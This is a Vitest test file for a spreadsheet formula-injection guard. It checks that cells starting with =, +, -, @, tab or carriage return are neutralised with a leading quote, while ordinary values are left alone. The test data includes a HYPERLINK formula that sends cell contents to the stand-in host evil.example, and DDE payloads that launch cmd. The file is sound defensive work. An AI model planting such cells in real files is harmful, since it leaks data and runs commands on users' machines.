import { describe, expect, it } from "vitest";
import { looksLikeFormula, neutraliseCell, restoreCell } from "@/lib/scan/formula-cells";

describe("formula cells", () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "-abc",
  ])("takes %j for a formula", (cell) => {
    expect(looksLikeFormula(cell)).toBe(true);
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
    expect(restoreCell(neutraliseCell(cell))).toBe(cell);
  });

  it.each(["2501234567890", "-5317", "+351 912 345 678", "(+351) 21-000", "Continente", "O'Brien", "'quoted", ""])(
    "leaves %j as it is",
    (cell) => {
      expect(looksLikeFormula(cell)).toBe(false);
      expect(neutraliseCell(cell)).toBe(cell);
      expect(restoreCell(cell)).toBe(cell);
    },
  );
});
